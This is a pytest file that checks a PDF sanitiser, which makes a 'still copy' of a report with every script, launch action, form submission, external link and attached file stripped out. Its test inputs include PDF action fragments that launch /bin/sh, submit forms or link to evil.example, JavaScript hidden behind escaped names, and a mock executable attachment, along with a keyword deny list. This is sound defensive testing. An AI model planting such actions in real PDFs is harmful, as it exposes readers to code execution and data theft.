"""The copy of a report that is shown: pages as they were, and nothing that acts; pdfium is the witness."""

import ctypes
import io

import pytest

from tests.support.needs import needs

pdfium = needs("pypdfium2")
needs("flask")

from pypdf import PdfReader, PdfWriter  # noqa: E402
from pypdf.annotations import FreeText, Link  # noqa: E402
from pypdf.generic import Fit  # noqa: E402

from grading.inside.trusted.still_report import write_still_copy  # noqa: E402
from tests.grading.page_class import ACTS, pdf  # noqa: E402

pytestmark = pytest.mark.grading
LAUNCH = b"<< /S /Launch /F (/bin/sh) >>"
SUBMIT = b"<< /S /SubmitForm /F (http://evil.example/) >>"
ELSEWHERE = b"<< /S /URI /URI (http://evil.example/) >>"
RECT = b"/Rect [10 10 90 90]"


@pytest.fixture
def still(tmp_path):
    """Return a function that makes the still copy of a PDF's bytes, and returns its path."""

    def make(content):
        (tmp_path / "report.pdf").write_bytes(content)
        write_still_copy(tmp_path / "report.pdf", tmp_path / "copy.pdf")
        return tmp_path / "copy.pdf"

    return make


def texts(source):
    with pdfium.PdfDocument(source) as document:
        return [page.get_textpage().get_text_bounded() for page in document]


def words_of(path):
    """Return all that is in a PDF that is not compressed, objects in streams included."""
    writer = PdfWriter(clone_from=PdfReader(path))
    content = io.BytesIO()
    writer.write(content)
    return content.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        pdf(action=ACTS),
        pdf(action=b"<< /S /Java#53cript /J#53 (app.alert\\(1\\);) >>"),  # names may be written so
        pdf(action=b"<< /S /GoTo /D [3 0 R /Fit] /Next %s >>" % ACTS),
        pdf(action=b"<< /S /GoTo /D [3 0 R /Fit] /Next [%s %s] >>" % (LAUNCH, ACTS)),
        pdf(annotation=b"<< /Type /Annot /Subtype /Link %s /A %s >>" % (RECT, ACTS)),
        pdf(annotation=b"<< /Type /Annot /Subtype /Link %s /A %s >>" % (RECT, ELSEWHERE)),
        pdf(annotation=b"<< /Type /Annot /Subtype /Link %s /PA %s /AA << /E %s >> >>" % (RECT, ELSEWHERE, LAUNCH)),
        pdf(annotation=b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) %s /A %s >>" % (RECT, SUBMIT)),
        pdf(annotation=b"<< /Type /Annot /Subtype /Screen %s /A << /S /Rendition /JS (app.alert\\(1\\)) >> >>" % RECT),
        pdf(
            annotation=b"<< /Type /Annot /Subtype /FileAttachment %s /FS << /EF << /F 4 0 R >> /F (x.exe) >> >>" % RECT
        ),
    ],
)
def test_nothing_acts_in_the_copy(still, content):
    copy = still(content)
    found = words_of(copy)
    for word in (b"JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"evil.example", b"/OpenAction", b"/AA", b"/EF"):
        assert word not in found, word
    assert texts(copy) == ["A report"]
    with pdfium.PdfDocument(copy) as document:
        assert pdfium.raw.FPDFDoc_GetJavaScriptActionCount(document) == 0
        assert pdfium.raw.FPDFDoc_GetAttachmentCount(document) == 0
        assert document.get_formtype() == pdfium.raw.FORMTYPE_NONE


def test_scripts_by_name_and_attached_files_are_gone(still):
    by_name = b"null /Names << /JavaScript << /Names [(a script) %s] >> >>" % ACTS
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(action=by_name))))
    writer.add_attachment("virus.exe", b"MZ")
    content = io.BytesIO()
    writer.write(content)
    with pdfium.PdfDocument(content.getvalue()) as before:
        assert pdfium.raw.FPDFDoc_GetJavaScriptActionCount(before) == 1
        assert pdfium.raw.FPDFDoc_GetAttachmentCount(before) == 1
    with pdfium.PdfDocument(still(content.getvalue())) as document:
        assert pdfium.raw.FPDFDoc_GetJavaScriptActionCount(document) == 0
        assert pdfium.raw.FPDFDoc_GetAttachmentCount(document) == 0


def test_links_within_the_report_and_marks_on_it_stay(still):
    writer = PdfWriter()
    for text in (b"one", b"two"):
        writer.append(io.BytesIO(pdf(text=text)))
    writer.add_annotation(0, Link(rect=(50, 50, 90, 90), target_page_index=1, fit=Fit.fit()))
    writer.add_annotation(0, FreeText(text="look", rect=(10, 10, 40, 40)))
    content = io.BytesIO()
    writer.write(content)
    copy = still(content.getvalue())
    assert texts(copy) == ["one", "two"]
    with pdfium.PdfDocument(copy) as document:
        link = pdfium.raw.FPDFLink_GetLinkAtPoint(document[0], 70, 70)
        target = pdfium.raw.FPDFLink_GetDest(document, link)
        assert pdfium.raw.FPDFDest_GetDestPageIndex(document, ctypes.cast(target, pdfium.raw.FPDF_DEST)) == 1
        assert pdfium.raw.FPDFPage_GetAnnotCount(document[0]) == 2


def test_a_report_with_an_owner_s_password_is_shown(still):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(action=ACTS))))
    writer.encrypt(user_password="", owner_password="secret", algorithm="AES-256")
    content = io.BytesIO()
    writer.write(content)
    copy = still(content.getvalue())
    assert texts(copy) == ["A report"]
    assert b"JavaScript" not in words_of(copy)


@pytest.mark.parametrize("content", [b"", b"%PDF-1.7\n", b"<svg xmlns='http://www.w3.org/2000/svg'/>", b"MZ" * 500])
def test_what_is_no_pdf_has_no_copy(still, content, tmp_path):
    with pytest.raises(Exception):  # noqa: B017, PT011 # of any kind: the caller leaves the copy out
        still(content)
    assert not (tmp_path / "copy.pdf").exists()
